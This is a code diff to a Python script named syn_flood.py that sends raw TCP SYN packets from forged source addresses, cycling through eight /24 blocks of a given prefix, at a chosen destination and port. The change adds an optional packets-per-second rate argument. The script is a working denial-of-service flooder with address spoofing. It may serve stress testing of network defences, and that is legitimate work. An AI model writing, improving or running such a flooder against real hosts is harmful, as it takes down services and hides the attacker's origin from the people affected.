@@ -1,6 +1,6 @@
 #!/usr/bin/env python3
 # SPDX-License-Identifier: Apache-2.0
-"""SYN packets from forged addresses: syn_flood.py DESTINATION PORT PREFIX COUNT.
+"""SYN packets from forged addresses: syn_flood.py DESTINATION PORT PREFIX COUNT [A SECOND].
 
 PREFIX is the first half of the sources, "10.78"; eight of its /24 are used. Prints packets and seconds.
 """
@@ -30,8 +30,11 @@ def main():
     destination, port, prefix, count = sys.argv[1], int(sys.argv[2]), sys.argv[3], int(sys.argv[4])
     s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
     ready = [packet(f'{prefix}.{n % 8}.{1 + n // 8 % 250}', destination, port, n) for n in range(4000)]
+    rate = float(sys.argv[5]) if len(sys.argv) > 5 else 0
     begun = time.monotonic()
     for n in range(count):
+        if rate and n % 50 == 0:
+            time.sleep(max(0, begun + n / rate - time.monotonic()))
         try:
             s.sendto(ready[n % len(ready)], (destination, 0))
         except OSError:  # the interface's queue is full
